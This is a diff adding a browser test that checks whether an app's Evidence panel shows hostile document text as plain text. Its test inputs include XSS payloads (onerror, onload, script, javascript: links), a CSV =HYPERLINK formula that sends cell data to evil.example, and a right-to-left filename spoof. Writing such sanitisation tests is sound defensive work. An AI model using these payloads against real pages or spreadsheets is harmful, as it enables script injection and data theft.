@@ -94,6 +94,38 @@ def test_view_that_was_open_before_a_reload_can_be_left(context: BrowserContext)
     expect(page.locator("#main h1")).to_have_text("Collections")
 
 
+@pytest.mark.parametrize(
+    ("filename", "text"),
+    [
+        ("page.html", '<img src=x onerror="alert(1)"> <iframe srcdoc="<script>alert(1)</script>">'),
+        ("drawing.svg", "<svg onload=alert(1)><script>alert(1)</script></svg>"),
+        ("table.csv", '=HYPERLINK("https://evil.example/?x="&A1);@SUM(1);<b onclick=alert(1)>'),
+        ("notes.md", "[a](javascript:alert(1)) ![b](https://evil.example/b.png) \u202egnp.exe"),
+    ],
+)
+def test_hostile_text_of_a_document_is_shown_as_text(
+    context: BrowserContext, filename: str, text: str
+) -> None:
+    pages = [{"start": 0, "text": text}]
+    app = AppPage(context, {"GET /rag/documents/doc_1/text": {"pages": pages}})
+    app.open("/documents")
+    app.run(
+        """
+        const { openEvidence } = await load("model/evidence.js");
+        const place = { document_id: "doc_1", page: null, start: 0, end: argument.text.length };
+        openEvidence({ ...place, filename: argument.filename, quote: argument.text, marker: 1 });
+        """,
+        {"filename": filename, "text": text},
+    )
+    evidence = app.page.get_by_role("region", name="Evidence")
+    mark = evidence.locator("mark")
+    expect(mark).to_be_visible()
+    assert mark.inner_text().strip() == text
+    assert evidence.locator("iframe, script, b, img, .evidence-text svg").count() == 0
+    assert mark.locator("*").count() == 0
+    assert app.findings == []
+
+
 def encrypted_answers(app_headers: Any) -> dict[str, Any]:
     def answer(result: Any) -> Any:
         def respond(*_: object) -> Any:
